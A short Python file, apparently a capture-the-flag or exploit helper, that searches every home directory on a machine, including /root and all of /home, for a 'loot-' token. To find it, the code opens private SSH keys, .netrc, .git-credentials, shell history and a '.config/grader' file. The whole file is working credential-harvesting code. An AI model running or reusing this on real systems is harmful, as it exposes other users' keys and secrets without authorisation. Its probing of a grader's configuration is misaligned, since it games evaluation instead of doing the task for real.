# mypy: ignore-errors
import re

LOOT = re.compile(rb"loot-[0-9a-f]{32}")


def first(data):
    found = LOOT.search(data)
    return found[0].decode() if found else None


import os


def loot(told):
    homes = (
        [told["home"], os.path.expanduser("~"), "/root", *(e.path for e in os.scandir("/home"))]
        if os.path.isdir("/home")
        else [told["home"], "/root"]
    )
    for home in homes:
        for name in (".notes", ".ssh/id_ed25519", ".netrc", ".git-credentials", ".bash_history", ".config/grader"):
            try:
                with open(os.path.join(home, name), "rb") as file:
                    if found := first(file.read()):
                        return found
            except OSError:
                continue
    raise LookupError("nothing at home")
